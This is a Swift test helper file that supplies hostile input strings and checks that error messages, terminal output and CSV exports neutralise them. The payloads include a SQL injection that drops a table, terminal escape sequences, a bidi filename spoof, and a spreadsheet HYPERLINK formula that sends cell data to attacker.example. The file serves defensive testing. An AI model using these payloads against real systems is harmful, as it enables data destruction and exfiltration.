import Testing

/// A text that does harm where it is executed, displayed or opened unescaped.
enum HostileText: String, Sendable, CaseIterable {
  case sql, ansi, bidi, nul, formula, huge

  var text: String {
    switch self {
    case .sql: "Robert'); drop table core.company cascade; --"
    case .ansi: "red\u{1B}[31m\u{1B}]0;owned\u{7}\u{9B}2J"
    case .bidi: "invoice\u{202E}fdp.exe\u{2066}"
    case .nul: "before\0after"
    case .formula: #"=HYPERLINK("http://attacker.example/?"&A1,"total")"#
    case .huge: String(repeating: "m", count: 1 << 20)
    }
  }

  /// A text that is harmful in every way that text columns can store.
  static let stored = "=1+1'); drop table x; --\u{1B}[31m\u{202E}\u{9B}\u{2066}"

  /// Expects a message that a person can read: one line without control characters, bounded, and without
  /// PostgreSQL's words.
  static func expectClear(
    _ message: String,
    _ place: String,
    sourceLocation: SourceLocation = #_sourceLocation
  ) {
    #expect(message.count < 400, "\(place): \(message.count) characters", sourceLocation: sourceLocation)
    let isPlain = message.unicodeScalars.allSatisfy { $0.value >= 0x20 && !isHarmful($0) }
    #expect(isPlain, "\(place): \(message.debugDescription)", sourceLocation: sourceLocation)
    for word in ["syntax error", "relation \"", "constraint", "pg_", "insert into", "violates"] {
      #expect(!message.contains(word), "\(place): \(message.prefix(300))", sourceLocation: sourceLocation)
    }
  }

  /// Expects output for a terminal without characters that act on it.
  static func expectHarmless(
    _ output: String,
    _ place: String,
    sourceLocation: SourceLocation = #_sourceLocation
  ) {
    let acting = output.unicodeScalars.filter { $0 != "\n" && isHarmful($0) }
    #expect(acting.isEmpty, "\(place) contains \(Set(acting))", sourceLocation: sourceLocation)
  }

  /// Expects CSV in which a spreadsheet finds no formula.
  static func expectNoFormula(
    _ csv: String,
    _ place: String,
    sourceLocation: SourceLocation = #_sourceLocation
  ) {
    let formulas = fields(csv).filter { field in
      guard let first = field.first else { return false }
      return ["=", "+", "@", "\t", "\r"].contains(first)
        || first == "-" && Double(field) == nil && field != "-"
    }
    #expect(formulas.isEmpty, "\(place): \(formulas.prefix(3))", sourceLocation: sourceLocation)
  }

  /// Returns the fields of CSV, without their quotes.
  private static func fields(_ csv: String) -> [String] {
    var fields = [""]
    var isQuoted = false
    for scalar in csv.unicodeScalars {
      switch scalar {
      case "\"": isQuoted.toggle()
      case ",", "\n", "\r":
        if isQuoted { fields[fields.count - 1].unicodeScalars.append(scalar) } else { fields.append("") }
      default: fields[fields.count - 1].unicodeScalars.append(scalar)
      }
    }
    return fields
  }

  private static func isHarmful(_ scalar: Unicode.Scalar) -> Bool {
    switch scalar.value {
    case 0...0x1F, 0x7F...0x9F, 0x200E, 0x200F, 0x202A...0x202E, 0x2066...0x2069: true
    default: false
    }
  }
}
